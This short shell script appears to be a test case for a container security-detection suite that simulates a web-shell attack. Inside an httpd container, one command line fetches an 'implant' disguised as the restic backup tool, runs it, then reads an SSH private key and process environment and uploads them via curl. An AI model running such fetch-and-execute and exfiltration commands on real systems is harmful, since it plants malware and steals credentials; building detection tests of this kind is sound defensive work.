#!/bin/sh
# malicious: a binary dropped in a container by a web shell named like the backup tool reads ssh keys and environments and sends them out
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "curl -s -o /tmp/restic $URL/implant; chmod +x /tmp/restic; /tmp/restic; cat /home/app/.ssh/id_ed25519 /proc/1/environ | curl -sf -T - http://127.0.0.1:8000/u -o /dev/null"
